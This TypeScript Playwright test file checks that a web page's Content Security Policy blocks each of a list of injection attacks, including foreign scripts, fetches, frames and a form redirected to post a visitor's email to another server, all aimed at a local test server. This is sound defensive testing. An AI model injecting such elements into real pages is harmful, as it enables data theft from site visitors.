import type { Page } from "@playwright/test";
import { expect } from "vitest";
import { nextPaint, test } from "../support/browser.ts";

/** Runs in the page, with the address of another server. */
type Act = (foreign: string) => unknown;

/**
 * Attacks by somebody who can write into the page, with the directive that stops each: an element
 * that is added, or a function.
 */
const attacks: [name: string, directive: string, Record<string, string> | Act][] = [
  ["an inline script", "script-src", { tag: "script", text: "attack()" }],
  ["a foreign script", "script-src", { tag: "script", src: "FOREIGN/a.js" }],
  ["an inline style sheet", "style-src", { tag: "style", text: "h1 { opacity: 0.5 }" }],
  ["a foreign style sheet", "style-src", { tag: "link", rel: "stylesheet", href: "FOREIGN/a.css" }],
  ["a style attribute", "style-src", { tag: "p", style: "opacity: 0.5" }],
  ["a foreign picture", "img-src", { tag: "img", src: "FOREIGN/a.png" }],
  ["a foreign font", "font-src", (foreign) => new FontFace("a", `url(${foreign}/a.woff2)`).load()],
  ["a foreign manifest", "manifest-src", { tag: "link", rel: "manifest", href: "FOREIGN/a.json" }],
  ["a foreign request", "connect-src", (foreign) => fetch(foreign, { mode: "no-cors" })],
  ["a foreign frame", "default-src", { tag: "iframe", src: "FOREIGN/" }],
  ["a foreign sound", "default-src", { tag: "audio", src: "FOREIGN/a.mp3", preload: "auto" }],
  ["a base address", "base-uri", { tag: "base", href: "FOREIGN/" }],
  [
    "a foreign form target",
    "form-action",
    (foreign) => {
      const form = document.querySelector("form");
      const email = document.querySelector<HTMLInputElement>("[type='email']");
      if (!form || !email) return;
      form.action = `${foreign}/attack`;
      email.value = "visitor@example.com";
      form.requestSubmit();
    },
  ],
  [
    "markup made of a text",
    "require-trusted-types-for",
    () => {
      document.body.innerHTML = "<p>Attacked</p>";
    },
  ],
  [
    "a policy that trusts any text",
    "trusted-types",
    () => {
      // Not yet among TypeScript's own types.
      const { trustedTypes } = window as { trustedTypes?: { createPolicy(name: string): object } };
      trustedTypes?.createPolicy("attack");
    },
  ],
];

function addElement({ foreign = "", tag = "", text = "", ...attributes }: Record<string, string>) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes))
    element.setAttribute(name, value.replace("FOREIGN", foreign));
  element.append(text);
  // Browsers read the first manifest alone.
  document.head.prepend(element);
}

/** Keeps, in the page, the directive of its policy that has just stopped something. */
const recordViolation = () =>
  addEventListener("securitypolicyviolation", ({ effectiveDirective, originalPolicy }) => {
    const name = effectiveDirective.replace(/-(elem|attr)$/, "");
    const isListed = originalPolicy.split("; ").some((directive) => directive.startsWith(name));
    document.documentElement.dataset.violated = isListed ? name : "default-src";
  });

/** Serves pages like to a browser without Trusted Types, which alone would stop most attacks. */
const removeTrustedTypes = (page: Page) =>
  page.route("**/", async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(/; require-trusted-types[^"]+/, "");
    await route.fulfill({ response, body });
  });

test("the policy has an attack below for each of its directives", async ({ page }) => {
  const policy = await page.locator("meta[http-equiv]").getAttribute("content");
  const directives = policy?.split("; ").map((directive) => directive.split(" ")[0]);
  expect(new Set(attacks.map(([, directive]) => directive))).toEqual(new Set(directives));
});

test.for(attacks)("the policy stops %s by %s", async ([, directive, attack], { open, serve }) => {
  const needsTypes = /trusted-types/.test(directive);
  const page = await open(needsTypes ? {} : { beforeLoad: removeTrustedTypes });
  const address = page.url();
  const foreign = await serve({});
  await page.evaluate(recordViolation);
  const attempt =
    typeof attack === "function"
      ? page.evaluate(attack, foreign.base)
      : page.evaluate(addElement, { ...attack, foreign: foreign.base });
  // A stopped attack may throw.
  await attempt.catch(() => {});
  // Chromium reads a manifest when it is asked to.
  const session = await page.context().newCDPSession(page);
  await session.send("Page.getAppManifest");
  // Locators wait for a form post that was stopped.
  const readViolation = () => page.evaluate(() => document.documentElement.dataset.violated);
  await expect.poll(readViolation).toBe(directive);
  await nextPaint(page);
  expect(foreign.requests).toEqual([]);
  expect(page.url()).toBe(address);
});
